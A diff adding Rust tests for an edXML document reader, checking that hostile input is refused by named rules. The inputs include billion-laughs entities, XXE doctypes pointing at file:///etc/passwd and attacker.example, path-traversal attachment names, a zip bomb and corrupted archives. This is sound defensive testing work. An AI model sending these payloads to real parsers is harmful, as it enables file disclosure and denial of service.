@@ -1,0 +1,151 @@
+//! Bytes that want to harm: each is refused by its own rule, and nothing is taken from it.
+
+use expect_test::expect;
+use truc_edxml::{ReadError, Severity};
+use truc_types::Reason;
+
+use crate::support::{Packing, base64, change, codes, new_document, read, report, with_attachment, zip, zip_entry};
+
+/// Refused, with this rule as the only error.
+fn check(bytes: impl AsRef<[u8]>, rule: &str) {
+    match read(bytes).0 {
+        Err(ReadError::Refused { diagnostics }) => {
+            let errors = diagnostics.iter().filter(|diagnostic| diagnostic.severity == Severity::Error);
+            assert_eq!(errors.map(|diagnostic| diagnostic.rule.code()).collect::<Vec<_>>(), [rule]);
+        }
+        other => panic!("{rule}: {other:?}"),
+    }
+}
+
+fn behind_declaration(text: &str) -> String {
+    change(&new_document(), "<edXML xmlns", &format!("{text}<edXML xmlns"))
+}
+
+#[test]
+fn document_types_and_entities_are_refused() {
+    let laughs = "<!DOCTYPE x [<!ENTITY a \"haha\"><!ENTITY b \"&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;\">]>";
+    check(behind_declaration(laughs), "edxml.doctype");
+    check(behind_declaration("<!DOCTYPE x SYSTEM \"file:///etc/passwd\">"), "edxml.doctype");
+    check(behind_declaration("<!DOCTYPE x [<!ENTITY % p SYSTEM \"http://attacker.example/x\"> %p;]>"), "edxml.doctype");
+    for entity in ["&xxe;", "&#0;", "&#xFFFF;", "&#x110000;", "&;"] {
+        check(change(&new_document(), ">Văn bản mới<", &format!(">{entity}<")), "edxml.entity");
+    }
+    check(change(&new_document(), "<edXML:MessageHeader>", "<edXML:MessageHeader id=\"&xxe;\">"), "edxml.entity");
+}
+
+#[test]
+fn malformed_bytes_are_refused_with_their_line() {
+    expect![[r#"
+        refused
+        edxml.not_well_formed: line 3, edXML: the XML is not well-formed; found "ill-formed document: expected `</edXML>`, but `</x>` was fou"; expected XML 1.0
+    "#]]
+    .assert_eq(&report("<?xml version=\"1.0\"?>\n<edXML xmlns=\"http://www.mic.gov.vn/TBT/QCVN_102_2016\">\n</x>"));
+    check("", "edxml.root");
+    check("hello", "edxml.not_well_formed");
+    check("<edXML", "edxml.not_well_formed");
+    check("<soap:Envelope xmlns:soap=\"http://schemas.xmlsoap.org/soap/envelope/\"/>", "edxml.root");
+    check("<edXML xmlns=\"http://www.e-doc.vn/Schema/\"/>", "edxml.root");
+    check(format!("{}<edXML/>", new_document()), "edxml.two_roots");
+    check(format!("{}tail", new_document()), "edxml.two_roots");
+    let mut invalid = new_document().into_bytes();
+    let at = invalid.windows(3).position(|window| window == b"V/v").unwrap();
+    invalid[at] = 0xff;
+    check(&invalid, "edxml.encoding");
+    invalid[at] = 0;
+    check(&invalid, "edxml.control_character");
+    check(change(&new_document(), "encoding=\"UTF-8\"", "encoding=\"UTF-16\""), "edxml.encoding");
+    let cut = new_document();
+    check(&cut[..cut.len() / 2], "edxml.not_well_formed");
+}
+
+#[test]
+fn what_is_too_much_is_refused_before_it_is_kept() {
+    let deep = format!("{}{}", "<a>".repeat(100_000), "</a>".repeat(100_000));
+    check(behind_root(&deep), "edxml.too_deep");
+    check(behind_root(&"<a/>".repeat(20_000)), "edxml.elements_too_many");
+    check(behind_root(&format!("<a {}/>", (0..50).map(|n| format!("a{n}=\"\" ")).collect::<String>())), "edxml.attributes_too_many");
+    check(behind_root(&format!("<{}/>", "a".repeat(200))), "edxml.not_well_formed");
+    check(behind_root(&format!("<a b=\"{}\"/>", "x".repeat(100_000))), "edxml.token_too_long");
+    check(behind_root(&format!("<!--{}-->", "x".repeat(100_000))), "edxml.token_too_long");
+    check(change(&new_document(), "<edXML:Content>", &format!("<edXML:Content>{}", "x".repeat(100_000))), "edxml.token_too_long");
+    check(change(&new_document(), "<edXML:Content>", &format!("<edXML:Content>{}", "x".repeat(2_000))), "edxml.text_too_long");
+    let text = format!("<x>{}</x>", "x".repeat(60_000)).repeat(40);
+    check(change(&new_document(), "<edXML:MessageHeader>", &format!("<edXML:MessageHeader>{text}")), "edxml.header_too_large");
+    let (result, kept) = read(change(&new_document(), "<AttachmentEncoded>", &format!("<AttachmentEncoded>{}", EMPTY.repeat(10_000))));
+    assert_eq!(result.unwrap_err().reason(), Some(Reason::AttachmentTooMany));
+    assert_eq!(kept.attachments.len(), 30);
+}
+
+const EMPTY: &str = "<Attachment><AttachmentName>a.pdf</AttachmentName><ContentTransferEncoded/></Attachment>";
+
+fn behind_root(text: &str) -> String {
+    change(&new_document(), "<edXML:edXMLEnvelope", &format!("{text}<edXML:edXMLEnvelope"))
+}
+
+#[test]
+fn names_are_never_paths() {
+    for name in ["../x", "..\\x", "/etc/passwd", "C:x", "a/../../b", ".."] {
+        check(with_attachment(name, "application/pdf", "aGVsbG8="), "edxml.name_traversal");
+    }
+    let archive = zip(&[zip_entry("../x", b"plain", Packing::Deflated)]);
+    assert_eq!(codes(with_attachment("a.csv", "application/zip", &base64(&archive))), ["edxml.zip_entry_name"]);
+}
+
+#[test]
+fn broken_base64_is_refused_and_its_attachment_is_not_ended() {
+    for (text, rule) in [
+        ("aGVsbG8", "edxml.base64_truncated"),
+        ("aGVsbG9=", "edxml.base64_padding"),
+        ("aGVsbA=", "edxml.base64_padding"),
+        ("aGVs====", "edxml.base64_padding"),
+        ("aGVsbA==aGVs", "edxml.base64_padding"),
+        ("aGVs*G8=", "edxml.base64_character"),
+        ("aGVsđG8=", "edxml.base64_character"),
+    ] {
+        check(with_attachment("a.pdf", "application/pdf", text), rule);
+        assert_eq!(read(with_attachment("a.pdf", "application/pdf", text)).1.ended, 0, "{text}");
+    }
+    check(with_attachment("a.pdf", "application/pdf", "aGVs<b/>bG8="), "edxml.element_misplaced");
+}
+
+fn check_archive(archive: &[u8], rule: &str) {
+    check(with_attachment("a.csv", "application/zip", &base64(archive)), rule);
+}
+
+#[test]
+fn bad_archives_are_refused_by_name() {
+    let bomb = zip_entry("a", &vec![0; 8 << 20], Packing::Deflated);
+    check_archive(&bomb, "edxml.zip_expansion");
+    let (result, kept) = read(with_attachment("a.csv", "application/zip", &base64(&bomb)));
+    assert_eq!(result.unwrap_err().reason(), Some(Reason::AttachmentTooLarge));
+    assert!(kept.attachments[0].len() <= 2 << 20, "stopped early, at {} bytes", kept.attachments[0].len());
+
+    let good = zip_entry("a", b"plain text, plain text", Packing::Deflated);
+    let with = |at: usize, byte: u8| {
+        let mut archive = good.clone();
+        archive[at] = byte;
+        archive
+    };
+    check_archive(&with(6, 1), "edxml.zip_unsupported");
+    check_archive(&with(8, 99), "edxml.zip_unsupported");
+    check_archive(&with(14, good[14] ^ 1), "edxml.zip_checksum");
+    check_archive(&with(31, 0xff), "edxml.zip_corrupt");
+    check_archive(&good[..good.len() - 3], "edxml.zip_truncated");
+    check_archive(&good[..20], "edxml.zip_truncated");
+    check_archive(b"PK\x05\x06\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0\0", "edxml.zip_empty");
+    let mut stored = zip_entry("a", b"plain", Packing::Stored);
+    stored[6] = 8;
+    check_archive(&stored, "edxml.zip_unsupported");
+    let mut wide = zip_entry("a", b"plain", Packing::Stored);
+    wide[18..26].fill(0xff);
+    check_archive(&wide, "edxml.zip_unsupported");
+}
+
+#[test]
+fn a_refusal_says_where_but_never_what_stands_there() {
+    let error = read(change(&new_document(), "<edXML:Subject>", "<edXML:Subject>Mật</edXML:Subject><edXML:Subject>")).0.unwrap_err();
+    let refusal = error.refusal().unwrap();
+    assert_eq!(refusal.reason, Reason::RequestInvalid);
+    assert!(!refusal.to_string().contains("Mật") && !format!("{:?}", refusal.values).contains("Mật"));
+    assert!(refusal.values.contains(&("rule", "edxml.element_repeated".to_owned())));
+}
